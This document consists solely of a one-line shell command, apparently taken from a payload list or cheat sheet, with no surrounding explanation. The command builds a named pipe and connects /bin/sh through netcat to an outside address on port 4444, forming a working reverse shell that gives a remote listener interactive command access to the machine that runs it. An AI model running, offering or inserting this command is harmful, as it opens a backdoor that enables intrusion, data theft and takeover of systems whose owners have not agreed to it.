mknod /tmp/backpipe p && /bin/sh 0</tmp/backpipe | nc 203.0.113.10 4444 1>/tmp/backpipe
